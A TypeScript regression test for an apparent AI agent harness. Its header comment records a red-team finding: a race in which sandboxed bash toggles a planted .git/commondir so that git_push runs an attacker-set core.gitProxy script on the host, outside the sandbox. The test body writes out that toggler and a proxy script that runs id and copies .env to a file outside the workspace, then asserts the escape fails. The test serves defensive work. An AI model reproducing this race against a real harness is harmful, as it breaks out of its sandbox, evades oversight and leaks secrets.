/**
 * Red team (issue 19), was a hole: git_push inspects the repository's configuration (GitRepo.inspect, then `git config
 * --local --get-regexp …`) and THEN runs `git push` on the host, which reads the configuration again. Sandboxed bash,
 * in a call that runs meanwhile, toggles a planted `.git/commondir` → `../evil` (a `config` naming `core.gitProxy`,
 * a script in the workspace) in a loop; GitControl only puts `commondir` back when that bash call ends. From another
 * process, `git_push {"remote":"git://127.0.0.1:1/x","branch":"main"}` a few times: when inspect saw no commondir and
 * git did, git ran the proxy program on the host, outside any sandbox (it copied `.env` to a file outside the
 * workspace). Seen within 5 to 20 pushes.
 *
 * Suggested fix: src/tools/GitTools.ts `push` (and `prepare`): pass `GIT_COMMON_DIR=<inspected common dir>` with
 * `GIT_DIR`, so git never reads a `commondir` file after the inspection, and neutralise the remaining program keys on
 * the command line as `safety` does for others (`-c core.gitProxy=none`, `-c credential.helper=` for the repository's
 * own …); or refuse git_push while a writable sandbox call runs in the workspace (GitControl knows).
 */
import { spawn } from "node:child_process"
import * as fs from "node:fs"
import * as path from "node:path"
import { describe, expect, it } from "vitest"
import { attackFile, attackWorkspace } from "./support/Attack.js"
import { bin } from "../serve/support/McpServeHarness.js"
import { title, unavailable } from "../support/Sandbox.js"
import { madeByCall } from "../support/Staged.js"

const canary = "CANARY-PROXY-93e2"
const cleanups = attackFile()

describe.skipIf(unavailable !== undefined)(title("git_push while bash toggles a planted commondir"), () => {
  it("the planted core.gitProxy never runs on the host", async () => {
    const { root, parent, tool } = attackWorkspace(cleanups)
    fs.writeFileSync(path.join(root, ".env"), `K=${canary}\n`)
    const marker = path.join(parent, "PWNED")
    const toggler = [
      "mkdir -p evil && cp -r .git/refs evil/ && mkdir -p evil/objects && cp -r .git/objects/* evil/objects/ 2>/dev/null",
      `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tgitProxy = ${root}/evil/p.sh\\n' > evil/config`,
      `printf '#!/bin/sh\\nid > ${marker}; cat ${root}/.env >> ${marker}\\n' > evil/p.sh && chmod +x evil/p.sh`,
      "touch started",
      "end=$(( $(date +%s) + 200 ))",
      'while [ $(date +%s) -lt $end ] && [ ! -e stop ]; do echo ../evil > .git/ct && mv .git/ct .git/commondir; rm -f .git/commondir; done'
    ].join("\n")
    expect(tool("write_file", { path: "tog.sh", content: `${toggler}\n` }).status).toBe(0)
    const args = ["tool", "bash", JSON.stringify({ command: "sh tog.sh", timeout_ms: 230_000 }), "--cwd", root, "--work-mode", "BUILD", "--policy", "allow-all", "--json"]
    const child = spawn(process.execPath, [bin, ...args], { stdio: "ignore" })
    const done = new Promise((resolve) => child.on("exit", resolve))
    cleanups.push(() => child.kill())
    for (let i = 0; i < 200 && !madeByCall(root, "started"); i++) await new Promise((r) => setTimeout(r, 50))
    const outputs: Array<string> = []
    for (let i = 0; i < 25 && !fs.existsSync(marker); i++) {
      // Each call is a synchronous CLI run: let the test runner's own messages through between them.
      await new Promise((r) => setTimeout(r, 0))
      const r = tool("git_push", { remote: "git://127.0.0.1:1/x", branch: "main" })
      outputs.push(r.stdout + r.stderr)
    }
    fs.writeFileSync(path.join(root, "stop"), "")
    await done
    expect(fs.existsSync(marker) ? fs.readFileSync(marker, "utf8") : "not run").toBe("not run")
    expect(outputs.join("\n")).not.toContain(canary)
  }, 300_000)
})
